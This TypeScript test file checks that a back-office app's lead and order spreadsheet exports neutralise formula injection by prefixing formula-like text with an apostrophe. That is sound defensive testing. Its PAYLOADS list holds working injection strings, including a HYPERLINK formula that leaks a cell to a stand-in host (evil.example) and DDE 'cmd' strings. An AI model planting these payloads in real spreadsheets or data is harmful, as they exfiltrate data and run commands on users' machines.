import ExcelJS from 'exceljs';
import type { LeadUpload } from '@backoffice/contracts';
import type { TestService } from '@backoffice/platform/testing';
import { buildCrm, extract, json, sheet, startCrm, upload, type CrmStack } from '../../services/crm/test/crm-test-kit';
import { seedOrder, startOrders, tokenFor } from '../../services/orders/test/orders-test-kit';
import { neighbourStub, topicPrefix } from './security-kit';

/*
 * Formula injection: the spreadsheets the product writes never carry a formula that came from user
 * data. Leads whose fields start with = + - @ (or a tab or a carriage return before one) are
 * imported, then exported (the group export, the failed-rows sheet), and orders with such names
 * exported; every cell is read back with exceljs: no formula cells, and every text that a
 * spreadsheet program would take for a formula starts with an apostrophe. (The product writes no
 * CSV.) The template, which holds no user data, carries no formula either.
 */

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '=1+1',
  '\t=1+1',
  '\r=2+2',
];

/** What a spreadsheet program would take for a formula if typed or pasted: = + - @ first, or after a tab or CR. */
const LOOKS_LIKE_FORMULA = /^[\t\r]*[=+\-@]/;
/** Numbers and phone numbers (a sign, digits, spaces, brackets, dots, dashes): nothing a formula could do with them. */
const PLAIN_NUMBER = /^[+-]?[\d\s().\-/]*$/;

interface Finding {
  sheet: string;
  cell: string;
  problem: string;
}

async function findings(bytes: ArrayBuffer | Buffer, what: string): Promise<{ findings: Finding[]; texts: string[] }> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as ArrayBuffer);
  const found: Finding[] = [];
  const texts: string[] = [];
  workbook.eachSheet((worksheet) => {
    worksheet.eachRow((row) => {
      row.eachCell((cell) => {
        const where = { sheet: `${what}/${worksheet.name}`, cell: cell.address };
        if (cell.type === ExcelJS.ValueType.Formula || cell.formula || (cell.value as { sharedFormula?: string })?.sharedFormula) {
          found.push({ ...where, problem: `a formula: ${cell.formula}` });
        }
        if (typeof cell.value === 'string') {
          texts.push(cell.value);
          if (LOOKS_LIKE_FORMULA.test(cell.value) && !PLAIN_NUMBER.test(cell.value)) {
            found.push({ ...where, problem: `unprefixed text ${JSON.stringify(cell.value)}` });
          }
        }
      });
    });
  });
  return { findings: found, texts };
}

describe('lead spreadsheets (crm)', () => {
  let stack: CrmStack;
  let stub: Awaited<ReturnType<typeof neighbourStub>>;
  let uploadId: number;

  beforeAll(async () => {
    buildCrm();
    stub = await neighbourStub();
    stack = await startCrm({ IDENTITY_URL: stub.url, KAFKA_TOPIC_PREFIX: topicPrefix() });
    await stack.startWorker();
    const rows: unknown[][] = [];
    PAYLOADS.forEach((payload, i) => {
      // Imported: a name and a phone; every text field carries a payload.
      rows.push(['', payload, payload, payload, '', payload, '', '', `+1 555 040 ${1000 + i}`, payload]);
      // Refused (no phone, a bad email): lands in the failed-rows sheet with its payloads.
      rows.push(['', payload, payload, payload, '', payload, '', payload, '', payload]);
    });
    const file = await json<LeadUpload>(await upload(stack.api, await sheet(rows), 'formulas.xlsx'));
    uploadId = file.id;
    const job = await extract(stack.api, file.id);
    expect(job.state).toBe('completed');
    expect(job.result?.imported).toBe(PAYLOADS.length);
  }, 240_000);

  afterAll(async () => {
    await stack?.close();
    await stub?.close();
  });

  it('the template carries no formula', async () => {
    const response = await stack.api.request('/api/leads/template.xlsx');
    expect(response.status).toBe(200);
    expect((await findings(await response.arrayBuffer(), 'template')).findings).toEqual([]);
  });

  it('the group export keeps every payload as prefixed text', async () => {
    const groups = await json<{ items: { id: number }[] } | { id: number }[]>(await stack.api.request('/api/leads/groups'));
    const list = Array.isArray(groups) ? groups : groups.items;
    expect(list.length).toBe(1);
    const response = await stack.api.request(`/api/leads/groups/${list[0].id}/export.xlsx`);
    expect(response.status).toBe(200);
    const { findings: found, texts } = await findings(await response.arrayBuffer(), 'group export');
    expect(found).toEqual([]);
    // The payloads are there, as text, one apostrophe in front, and the phone numbers are left alone.
    expect(texts).toEqual(expect.arrayContaining([`'${PAYLOADS[0]}`, `'${PAYLOADS[1]}`, `'${PAYLOADS[4]}`]));
    expect(texts).toEqual(expect.arrayContaining(['+1 555 040 1000']));
  });

  it('the failed-rows sheet keeps every payload as prefixed text, and reads back as the user wrote it', async () => {
    const response = await stack.api.request(`/api/leads/uploads/${uploadId}/errors.xlsx`);
    expect(response.status).toBe(200);
    const bytes = Buffer.from(await response.arrayBuffer());
    const { findings: found, texts } = await findings(bytes, 'failed rows');
    expect(found).toEqual([]);
    expect(texts).toEqual(expect.arrayContaining([`'${PAYLOADS[0]}`]));

    // Fixed (a phone added) and uploaded again: the apostrophes are not taken for part of the data.
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const leads = workbook.getWorksheet('Leads')!;
    leads.getRow(2).getCell(9).value = '+1 555 050 0001';
    leads.getRow(2).getCell(8).value = null;
    leads.getRow(2).commit();
    const again = await json<LeadUpload>(await upload(stack.api, Buffer.from(await workbook.xlsx.writeBuffer()), 'fixed.xlsx'));
    const job = await extract(stack.api, again.id);
    expect(job.result?.imported).toBeGreaterThanOrEqual(1);
    const page = await json<{ data: { firstName: string; phone: string }[] }>(
      await stack.api.request(`/api/leads/groups/${job.groups![0].id}/leads?length=100`),
    );
    const fixed = page.data.find((lead) => lead.phone.replace(/\D/g, '').endsWith('5550500001'));
    expect(fixed?.firstName).toBe(PAYLOADS[0]);
  });
});

describe('the orders export', () => {
  let orders: TestService;

  beforeAll(async () => {
    orders = await startOrders({ KAFKA_TOPIC_PREFIX: topicPrefix() });
    for (const payload of PAYLOADS) {
      await seedOrder(orders, [{ itemId: 1, itemName: payload, amount: 10 }], {
        name: payload,
        contactInfo: payload,
        email: null,
        city: payload,
      });
    }
  }, 60_000);

  afterAll(async () => {
    await orders?.close();
  });

  it('keeps every payload as prefixed text', async () => {
    const response = await orders.request('/api/orders/export.xlsx', { token: tokenFor(['Manager']) });
    expect(response.status).toBe(200);
    const { findings: found, texts } = await findings(await response.arrayBuffer(), 'orders export');
    expect(found).toEqual([]);
    expect(texts).toEqual(expect.arrayContaining([`'${PAYLOADS[0]}`, `'${PAYLOADS[3]}`]));
  });
});
